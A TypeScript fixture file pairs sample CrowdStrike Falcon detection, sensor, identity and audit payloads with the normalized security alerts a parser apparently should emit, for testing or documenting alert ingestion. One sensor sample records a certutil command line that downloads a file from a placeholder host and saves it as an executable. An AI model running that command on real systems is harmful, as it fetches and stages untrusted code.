import type { FormatSample } from '../define-format.ts';

export const samples: readonly [FormatSample, ...FormatSample[]] = [
  {
    title: 'A detection of the event stream',
    body: {
      metadata: { eventType: 'DetectionSummaryEvent', eventCreationTime: 1764000000000 },
      event: {
        DetectId: 'ldt:test:1',
        DetectName: 'Test delivery',
        Severity: 3,
        ComputerName: 'WS-0042',
        UserName: 'someone',
      },
    },
    alerts: [
      {
        external_id: 'ldt:test:1',
        title: 'Test delivery on WS-0042',
        severity: 'medium',
        occurred_at: '2025-11-24T16:00:00.000Z',
        fields: {
          host: { name: 'WS-0042' },
          user: { name: 'someone' },
          vendor: { severity: '3' },
          event: { action: 'DetectionSummaryEvent' },
          observer: { vendor: 'CrowdStrike', product: 'Falcon', type: 'edr' },
        },
      },
    ],
  },
  {
    title: 'A page of the alerts API',
    body: {
      resources: [
        {
          composite_id: '0123456789abcdef:ind:WS-9',
          display_name: 'Malicious file executed',
          description: 'A file known as malware was run.',
          severity_name: 'High',
          tactic: 'Execution',
          technique_id: 'T1204.002',
          device: { hostname: 'WS-9', device_id: 'd9', local_ip: '10.0.0.9', external_ip: '203.0.113.9' },
          user_name: 'worker',
          filename: 'invoice.exe',
          filepath: '\\Device\\HarddiskVolume2\\Users\\worker\\Downloads\\invoice.exe',
          sha256: 'a'.repeat(64),
          cmdline: 'invoice.exe /quiet',
          ioc_type: 'domain',
          ioc_value: 'invoice-portal.example',
          timestamp: '2026-11-22T12:00:00Z',
        },
      ],
    },
    alerts: [
      {
        external_id: '0123456789abcdef:ind:WS-9',
        title: 'Malicious file executed on WS-9',
        severity: 'high',
        type: 'malware',
        occurred_at: '2026-11-22T12:00:00.000Z',
        fields: {
          host: { name: 'WS-9', id: 'd9', ip: '10.0.0.9' },
          user: { name: 'worker' },
          process: {
            name: 'invoice.exe',
            executable: '\\Device\\HarddiskVolume2\\Users\\worker\\Downloads\\invoice.exe',
            command_line: 'invoice.exe /quiet',
          },
          file: {
            name: 'invoice.exe',
            path: '\\Device\\HarddiskVolume2\\Users\\worker\\Downloads\\invoice.exe',
            hash: { sha256: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' },
          },
          vendor: { severity: 'High' },
          threat: { tactic: { name: ['Execution'] }, technique: { id: ['T1204.002'] } },
          source: { ip: '203.0.113.9' },
          observer: { vendor: 'CrowdStrike', product: 'Falcon', type: 'edr' },
        },
        observables: [{ type: 'domain', value: 'invoice-portal.example' }],
      },
    ],
  },
  {
    title: 'An event of the sensor, as the Data Replicator writes it',
    body: {
      event_simpleName: 'ProcessRollup2',
      name: 'ProcessRollup2V19',
      id: '8c1d2a4e-53a6-4c27-9a60-5f9f6d1c0b11',
      aid: '4d9f1be07a2c4f0f9b8e6a3c5d7e1f20',
      cid: '0123456789abcdef0123456789abcdef',
      aip: '203.0.113.24',
      event_platform: 'Win',
      timestamp: '1795348800000',
      CommandLine: 'certutil.exe -urlcache -f https://files.example/a.txt a.exe',
      ImageFileName: '\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe',
      ParentBaseFileName: 'cmd.exe',
      RawProcessId: '4312',
      SHA256HashData: 'b'.repeat(64),
      MD5HashData: '0'.repeat(32),
      UserSid: 'S-1-5-21-1004336348-1177238915-682003330-1104',
    },
    alerts: [
      {
        external_id: '8c1d2a4e-53a6-4c27-9a60-5f9f6d1c0b11',
        title: 'Process started: certutil.exe from 203.0.113.24',
        type: 'malware',
        occurred_at: '2026-11-22T12:00:00.000Z',
        fields: {
          host: { id: '4d9f1be07a2c4f0f9b8e6a3c5d7e1f20', os: { name: 'Win' } },
          process: {
            name: 'certutil.exe',
            executable: '\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe',
            command_line: 'certutil.exe -urlcache -f https://files.example/a.txt a.exe',
            pid: 4312,
            parent: { name: 'cmd.exe' },
          },
          event: { action: 'ProcessRollup2' },
          user: { id: 'S-1-5-21-1004336348-1177238915-682003330-1104' },
          file: {
            name: 'certutil.exe',
            path: '\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe',
            hash: { sha256: 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb' },
          },
          source: { ip: '203.0.113.24' },
          observer: { vendor: 'CrowdStrike', product: 'Falcon', type: 'edr' },
        },
      },
    ],
  },
  {
    title: 'An identity detection of the event stream',
    body: {
      metadata: {
        customerIDString: '0123456789abcdef0123456789abcdef',
        offset: 4711,
        eventType: 'IdpDetectionSummaryEvent',
        eventCreationTime: 1795348805000,
        version: '1.0',
      },
      event: {
        DetectId: '0123456789abcdef0123456789abcdef:ind:0123456789abcdef0123456789abcdef:9a1f',
        DetectName: 'Access from an unusual country',
        DetectDescription: 'A user signed in from a country that is new for them.',
        SeverityName: 'Medium',
        Severity: 50,
        Tactic: 'Initial Access',
        Technique: 'Valid Accounts',
        FalconHostLink: 'https://falcon.example/identity-protection/detections/9a1f',
        SourceAccountName: 'amy',
        SourceAccountUpn: 'amy@corp.example',
        SourceAccountObjectSid: 'S-1-5-21-1004336348-1177238915-682003330-1107',
        SourceEndpointHostName: 'WS-0107',
        SourceEndpointIpAddress: '198.51.100.23',
      },
    },
    alerts: [
      {
        external_id: '0123456789abcdef0123456789abcdef:ind:0123456789abcdef0123456789abcdef:9a1f',
        title: 'Access from an unusual country on WS-0107',
        severity: 'medium',
        type: 'suspicious_login',
        occurred_at: '2026-11-22T12:00:05.000Z',
        fields: {
          vendor: { severity: 'Medium' },
          event: {
            action: 'IdpDetectionSummaryEvent',
            url: 'https://falcon.example/identity-protection/detections/9a1f',
          },
          threat: { tactic: { name: ['Initial Access'] }, technique: { name: ['Valid Accounts'] } },
          host: { name: 'WS-0107', ip: '198.51.100.23' },
          user: {
            name: 'amy',
            email: 'amy@corp.example',
            id: 'S-1-5-21-1004336348-1177238915-682003330-1107',
          },
          observer: { vendor: 'CrowdStrike', product: 'Falcon', type: 'edr' },
        },
      },
    ],
  },
  {
    title: 'What somebody did in the console',
    body: {
      metadata: { eventType: 'AuthActivityAuditEvent', offset: 4712, eventCreationTime: 1795348806000 },
      event: {
        UserId: 'admin@corp.example',
        UserIp: '203.0.113.5',
        OperationName: 'createAPIClient',
        ServiceName: 'Crowdstrike API Client',
        Success: true,
        UTCTimestamp: 1795348806,
        AuditKeyValues: [{ Key: 'scope(s)', ValueString: 'alerts:read' }],
      },
    },
    alerts: [
      {
        title: 'Create API client by admin@corp.example',
        occurred_at: '2026-11-22T12:00:06.000Z',
        fields: {
          user: { name: 'admin@corp.example', email: 'admin@corp.example' },
          event: { action: 'createAPIClient' },
          source: { ip: '203.0.113.5' },
          observer: { vendor: 'CrowdStrike', product: 'Falcon', type: 'edr' },
        },
      },
    ],
  },
];
